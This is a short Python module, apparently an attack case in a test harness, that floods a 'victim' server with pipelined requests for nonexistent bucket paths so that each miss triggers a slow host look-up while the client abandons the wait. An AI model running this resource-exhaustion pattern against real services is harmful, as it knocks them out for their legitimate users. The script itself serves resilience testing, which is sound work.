"""Each request names a bucket of its own, and so a host that takes long to look up; its client does not wait."""

import itertools
import time

import wire

MISS_WORD = "closing"  # the next miss needs a connection, and so a look-up
RESOLVER_MS = 200
LIMITS = [("C0-Config", "ct=1 ma=1")]


def attack(victim):
    numbers = itertools.count()

    def pipeline(_):
        with victim.connect() as sock:
            for _ in range(50):
                sock.sendall(b"".join(wire.head(f"/fetch/absent-{next(numbers)}/o", LIMITS) for _ in range(10)))
                sock.settimeout(0.25)
                wire.read_all(sock)
                sock.settimeout(20)

    wire.crowd(16 * victim.scale, pipeline)
    time.sleep(1.5)
    victim.begun()
